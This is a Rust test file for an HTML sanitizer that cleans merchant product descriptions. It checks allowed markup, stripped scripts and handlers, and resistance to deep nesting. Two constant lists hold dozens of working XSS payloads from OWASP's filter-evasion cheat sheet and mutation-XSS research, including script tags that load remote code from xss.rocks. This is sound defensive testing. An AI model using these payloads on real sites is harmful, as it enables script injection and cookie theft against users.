//! Descriptions against those who want more than a description: OWASP's XSS Filter Evasion Cheat Sheet, and what
//! parsers have been led astray by since.

use super::*;

/// What is left has to be of this grammar and no other: tags and attributes of the list, values in quotes, addresses
/// that lead somewhere harmless. Written by hand, so that it shares nothing with what it checks.
pub fn assert_harmless(html: &str) {
    let mut rest = html;
    while let Some((_, after)) = rest.split_once('<') {
        let (name, mut tag) = split_name(after.strip_prefix('/').unwrap_or(after));
        assert!(TAGS.contains(&name), "<{name}> in {html}");
        while let Some(attribute) = tag.strip_prefix(' ') {
            let (attribute, value) = attribute.split_once("=\"").unwrap_or_else(|| panic!("no value in {html}"));
            let (value, after) = value.split_once('"').unwrap_or_else(|| panic!("no end in {html}"));
            assert_attribute(name, attribute, value, html);
            tag = after;
        }
        rest = tag.strip_prefix('>').unwrap_or_else(|| panic!("an odd tag `{tag:.40}` in {html}"));
    }
}

fn split_name(text: &str) -> (&str, &str) {
    text.split_at(text.find(|letter: char| !letter.is_ascii_alphanumeric()).unwrap_or(text.len()))
}

fn assert_attribute(tag: &str, attribute: &str, value: &str, html: &str) {
    let own = ATTRIBUTES.iter().find(|(name, _)| *name == tag).map_or(&[][..], |(_, names)| names);
    let added = tag == "a" && attribute == "rel";
    assert!(own.contains(&attribute) || EVERYWHERE.contains(&attribute) || added, "{tag} {attribute} in {html}");
    match attribute {
        "rel" => assert_eq!(value, "noopener nofollow"),
        "src" => assert!(value.starts_with("https://"), "{html}"),
        "href" => assert!(scheme(value).is_none_or(|scheme| SCHEMES.contains(&scheme.as_str())), "{html}"),
        _ => {}
    }
}

/// The scheme that a browser would see (WHATWG URL, 4.4): controls before it and line ends within do not count.
fn scheme(address: &str) -> Option<String> {
    let seen: String = address.trim_start_matches(|c: char| c <= ' ').replace(['\t', '\r', '\n'], "");
    let (scheme, _) = seen.split_once(':')?;
    let of_schemes = |letter: char| letter.is_ascii_alphanumeric() || "+-.".contains(letter);
    let is_one = scheme.starts_with(|first: char| first.is_ascii_alphabetic()) && scheme.chars().all(of_schemes);
    is_one.then(|| scheme.to_ascii_lowercase())
}

/// Cleans, and demands that the result is harmless and stays as it is.
fn cleaned(html: &str) -> String {
    let once = clean(html).unwrap_or_else(|why| panic!("{why}: {html:.200}")).into_owned();
    assert_harmless(&once);
    assert_eq!(clean(&once).unwrap(), once, "not at rest: {html:.200}");
    once
}

#[test]
fn what_merchants_write_stays() {
    for html in [
        "",
        "Plain text, 5 > 3 & more",
        "Fish & Chips &amp; Peas",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<p>Soft cotton, <strong>long</strong> <em>sleeves</em>.</p>\r\n  <p>Two\nlines</p>\n",
        "<h2>Care</h2><ul><li>Wash at 30&nbsp;°C</li><li>Do not bleach</li></ul>",
        "<table><thead><tr><th scope=\"col\">Size</th></tr></thead><tbody><tr><td colspan=\"2\">S</td></tr></tbody></table>",
        "<img src=\"https://cdn.example.com/a.jpg?v=1&amp;w=2\" alt=\"A shirt\" width=\"100\">",
        "<a href=\"https://example.com/?a=1&amp;b=2\" rel=\"noopener nofollow\">a link</a>",
        "<a href=\"/collections/all\" rel=\"noopener nofollow\">all</a><a href=\"#top\" rel=\"noopener nofollow\">up</a>",
        "<a href=\"mailto:shop@example.com\" rel=\"noopener nofollow\">write</a>",
        "<p lang=\"ar\" dir=\"rtl\">قميص</p><blockquote>👕 “x”</blockquote><hr><br>",
        "<details open=\"\"><summary>More</summary>text</details>",
    ] {
        assert_eq!(cleaned(html), html);
    }
}

#[test]
fn what_acts_is_left_out() {
    for (html, left) in [
        ("<p onclick=\"x()\" style=\"position:fixed\" class=\"buy\" id=\"a\" data-x=\"1\">a</p>", "<p>a</p>"),
        ("a<script>alert(1)</script>b", "ab"),
        ("<style>p{display:none}</style><p>a</p>", "<p>a</p>"),
        ("<iframe src=\"https://www.youtube.com/embed/x\" allowfullscreen>fallback</iframe>a", "a"),
        (
            "<video src=\"https://x.test/a.mp4\" autoplay>x</video><audio src=x></audio><embed src=x><object>x</object>",
            "",
        ),
        ("<form action=\"https://evil.test\"><input name=q><button>Buy</button></form>", "Buy"),
        ("<a href=\"javascript:alert(1)\" target=\"_blank\">a</a>", "<a rel=\"noopener nofollow\">a</a>"),
        ("<a href=\"data:text/html,x\" rel=\"opener\">a</a>", "<a rel=\"noopener nofollow\">a</a>"),
        ("<img src=\"//x.test/a.jpg\">", "<img src=\"https://x.test/a.jpg\">"),
        ("<img src=\"http://x.test/a.jpg\">", "<img src=\"https://x.test/a.jpg\">"),
        ("<img src=\"/logout\" alt=\"a\">", "<img alt=\"a\">"),
        ("<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">", "<img>"),
        ("<!-- a --><p>a</p><!--[if gte mso 9]><xml>x</xml><![endif]-->", "<p>a</p>"),
        ("<p>a<p>b", "<p>a</p><p>b</p>"),
        ("5 < 6 cm", "5 &lt; 6 cm"),
        ("<html><head><title>x</title></head><body bgcolor=red><font color=red>a</font></body></html>", "a"),
        ("<o:p>a</o:p><w:sdt>b</w:sdt>", "ab"),
    ] {
        assert_eq!(cleaned(html), left, "{html}");
    }
}

/// OWASP, XSS Filter Evasion Cheat Sheet.
pub const EVASIONS: &[&str] = &[
    "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
    "<img src=x onerror=javascript:alert('XSS')>",
    "<img src=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)\">x</a>",
    "\\<a onmouseover=\"alert(document.cookie)\"\\>xxs link\\</a\\>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<img src=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097\">",
    "<a href=\"jav\tascript:alert('XSS');\">x</a>",
    "<a href=\"jav&#x09;ascript:alert('XSS');\">x</a>",
    "<a href=\"jav&#x0A;ascript:alert('XSS');\">x</a>",
    "<a href=\"jav&#x0D;ascript:alert('XSS');\">x</a>",
    "<a href=\" &#14;  javascript:alert('XSS');\">x</a>",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<SCRIPT/SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "\\\";alert('XSS');//",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\"><IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<a href='vbscript:msgbox(\"XSS\")'>x</a><a href=\"livescript:[code]\">x</a>",
    "<svg/onload=alert('XSS')>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\"><BR SIZE=\"&{alert('XSS')}\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\"><STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.rocks/xss.css>; REL=stylesheet\">",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "exp/*<A STYLE='no\\xss:noxss(\"*//*\");xss:ex/*XSS*//*/*/pression(alert(\"XSS\"))'>",
    "<XSS STYLE=\"behavior: url(xss.htc);\">¼script¾alert(¢XSS¢)¼/script¾",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=http://;URL=javascript:alert('XSS');\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME><IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\"><DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH\" AllowScriptAccess=\"always\"></EMBED>",
    "<? echo('<SCR)';echo('IPT>alert(\"XSS\")</SCRIPT>'); ?>",
    "<SCRIPT>document.write(\"<SCRI\");</SCRIPT>PT SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT a=\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<A HREF=\"//www.google.com/\">XSS</A><A HREF=\"http://66.102.7.147/\">XSS</A>",
    "<a href=\"ja\u{0}vascript:alert(1)\">x</a>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a><a href=\"javascript\u{a0}:alert(1)\">x</a>",
    "<a href=\"https:javascript:alert(1)\">x</a><a href=\"//\\javascript:alert(1)\">x</a>",
    "<img src=\"https://x.test/a.jpg\" srcset=\"javascript:alert(1) 2x\" onerror=alert(1)>",
    "<img title='\" onerror=alert(1) x=\"' src=\"https://x.test/`onerror=alert(1)\">",
];

/// Parsers that read a tree otherwise than it was written ("mutation XSS").
pub const MUTATIONS: &[&str] = &[
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src onerror=alert(1)>\">",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<table><td><b><table></b><a href=x><td></a><p><table><a>x",
    "<a><table><a>x</table><a>y",
    "<b><p><i></b>x</p></i><u><div></u>y</div>",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
    "<template><p><script>alert(1)</script></template><plaintext><p>x",
    "<pre>\n\n\nx</pre><pre>\r\n\r\nx</pre>",
    "<p><dd><li><p><ol><dt><h1><h2>x",
    "<ul><p><li><table><li><tr><p>x",
    "<svg><![CDATA[><image xlink:href=\"]]><img src=x onerror=alert(2)//\"></svg>",
];

#[test]
fn no_evasion_gets_through() {
    for html in EVASIONS.iter().chain(MUTATIONS) {
        cleaned(html);
        // The same in the middle of a table, a link, a comment and a title.
        for (before, after) in [
            ("<table><tr><td>", "</td></tr></table>"),
            ("<a href=\"x\">", "</a>"),
            ("<!--", "-->"),
            ("<p title=\"", "\">"),
        ] {
            cleaned(&format!("{before}{html}{after}"));
        }
    }
    for (first, second) in EVASIONS.iter().zip(MUTATIONS.iter().cycle()) {
        cleaned(&format!("{second}{first}"));
    }
}

#[test]
fn what_would_fill_the_memory_is_refused() {
    let many = |count: usize| -> String { (0..count).map(|number| format!("<b a={number}>")).collect() };
    let reopened = format!("{}{}", many(2_000), "<p>x".repeat(2_000));
    assert_eq!(clean(&reopened), Err(NotTaken::Tangled));
    // Nor does it help to hide how many there are.
    let hidden: String = (0..2_000).map(|number| format!("<b a=x\" b=\"y>{number}\">")).collect();
    assert_eq!(clean(&format!("{hidden}{}", "<p>x".repeat(2_000))), Err(NotTaken::Tangled));
    let hidden: String = (0..2_000).map(|number| format!("<b a='>{number}'>")).collect();
    assert_eq!(clean(&format!("{hidden}{}", "<p>x".repeat(2_000))), Err(NotTaken::Tangled));
    assert_eq!(clean(&format!("<b>{}", "&".repeat(30_000))), Err(NotTaken::TooLong));

    // Whoever closes what he opens may write much.
    let row = "<tr><td><b>Size</b></td><td><font size=\"2\">S</font> <a href=\"/s\">s</a></td></tr>";
    let table = format!("<table><tbody>{}</tbody></table>", row.repeat(1_000));
    assert!(clean(&table).is_ok());
}

/// What has parsers walk up and down their trees.
const PARTS: [&str; 22] = [
    "<div>",
    "<b>",
    "<ul><li>",
    "<table><tr><td>",
    "<a>",
    "<p><b>x",
    "</p>",
    "<svg>",
    "<!--",
    "<dl><dd>",
    "<a><div>",
    "<b><p>",
    "<i><table>",
    "<table><b>",
    "<nobr>",
    "<b></p>",
    "<div></b>",
    "<div><!--</div>-->",
    "<b><div></b>",
    "<a><p></a><div>",
    "<p title=\"<\">",
    "<span>",
];

#[test]
fn the_deepest_nesting_takes_no_time_to_speak_of() {
    let started = std::time::Instant::now();
    for part in PARTS {
        let html = part.repeat(LONGEST / part.len());
        if let Ok(cleaned) = clean(&html) {
            assert_harmless(&cleaned);
        }
    }
    let attributes: String = (0..16_000).map(|number| format!(" a{number}")).collect();
    assert_eq!(clean(&format!("<p{attributes}>x")).unwrap(), "<p>x</p>");
    // A debug build on a busy machine; what grows by the square takes minutes.
    assert!(started.elapsed().as_secs() < 60, "{:?}", started.elapsed());
}
